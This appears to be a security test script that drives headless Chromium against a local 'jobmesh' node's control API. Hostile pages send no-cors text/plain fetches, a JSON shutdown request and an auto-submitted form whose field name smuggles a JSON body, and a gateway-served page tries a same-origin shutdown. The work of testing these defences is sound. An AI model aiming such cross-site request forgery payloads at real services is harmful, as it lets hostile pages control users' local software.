// Attacks a jobmesh node's control API from web pages in headless Chromium (Debian's /usr/bin/chromium, through
// playwright-core), as a page the user happens to visit would:
//  1. a page on another origin (a small server this script starts on 127.0.0.1) posts a job and a shutdown with
//     `no-cors` fetches (text/plain, no preflight), a CORS fetch with a JSON body, and an auto-submitted form;
//  2. an HTML page served by the node's own gateway (path style) fetches the API as "same origin".
// Prints one JSON line with what each page saw; the Rust test checks the node's state, which is what matters.
//
// Usage: node attack.mjs <api origin, e.g. http://127.0.0.1:5101> <gateway page url>
import { createServer } from "node:http";
import { chromium } from "playwright-core";

const [api, gatewayPage] = process.argv.slice(2);
if (!api || !gatewayPage) {
  console.error("usage: node attack.mjs <api origin> <gateway page url>");
  process.exit(2);
}
const job = JSON.stringify({ source: "Javy.IO.writeSync(1, new Uint8Array([1]))", replicas: 1, price: 1e9 });
const evil = `<!doctype html><meta charset=utf-8><title>evil</title>
<form id=f method=POST action="${api}/api/v0/job/submit-js" enctype="text/plain" target=sink>
<input name='{"source":"1","x":"' value='"}'></form><iframe name=sink></iframe>
<script>
const API = ${JSON.stringify(api)}, JOB = ${JSON.stringify(job)};
window.seen = {};
const note = (k) => (r) => { window.seen[k] = r && r.status !== undefined ? "answered " + r.status : "" + r; };
fetch(API + "/api/v0/job/submit-js", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" },
  body: JOB }).then(note("noCorsSubmit"), note("noCorsSubmit"));
fetch(API + "/api/v0/shutdown", { method: "POST", mode: "no-cors", body: "{}" })
  .then(note("noCorsShutdown"), note("noCorsShutdown"));
fetch(API + "/api/v0/shutdown", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })
  .then(note("corsShutdown"), note("corsShutdown"));
setTimeout(() => { document.getElementById("f").submit(); window.seen.form = "submitted"; }, 300);
</script>`;

const server = createServer((req, res) => {
  res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
  res.end(evil);
});
await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
const evilUrl = `http://127.0.0.1:${server.address().port}/`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync"],
  timeout: 30_000,
});
const result = {};
try {
  const page = await browser.newPage();
  await page.goto(evilUrl, { timeout: 15_000 });
  await page.waitForTimeout(2_500);
  result.crossSite = await page.evaluate(() => window.seen);
  // The gateway page runs its own script (a same-origin fetch of /api/v0/shutdown); give it time.
  const gw = await browser.newPage();
  const messages = [];
  gw.on("console", (m) => messages.push(m.text()));
  await gw.goto(gatewayPage, { timeout: 15_000 });
  await gw.waitForTimeout(2_500);
  result.gateway = messages;
} finally {
  await browser.close();
  server.close();
}
console.log(JSON.stringify(result));
